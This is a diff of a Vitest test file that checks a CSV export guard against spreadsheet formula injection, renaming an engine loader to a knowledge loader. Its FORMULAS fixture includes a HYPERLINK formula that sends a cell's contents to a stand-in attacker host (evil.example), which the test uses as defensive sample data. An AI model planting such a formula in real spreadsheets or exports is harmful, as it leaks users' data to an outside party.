@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { COLUMNS, exportCsv, guardCell, planImport, readCsv, unguardCell } from '../../src/admin/spreadsheet.js';
-import { shippedEngine } from '../support/engine.js';
+import { shippedKnowledge } from '../support/engine.js';
 
 /** Cells a spreadsheet would run as a formula, and texts that look like the guard itself. */
 const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for help")', '+359 2 939 47 74', '- first\n- second', '@SUM(A1:A9)', '\tindented', '\rreturn', '-1'];
@@ -20,8 +20,8 @@ describe('the spreadsheet formula guard', () => {
   });
 
   it('writes no cell of the CSV that starts like a formula, and reading the CSV back changes no entry', async () => {
-    const engine = await shippedEngine();
-    const edited = [...engine.entries.values()].map((entry) => structuredClone(entry));
+    const knowledge = await shippedKnowledge();
+    const edited = [...knowledge.entries.values()].map((entry) => structuredClone(entry));
     const cost = edited.find((e) => e.id === 'avrr-cost')!;
     cost.languages.en.answer = '- first item\n- second item\n';
     cost.languages.en.variants = [FORMULAS[0]!, ...cost.languages.en.variants];
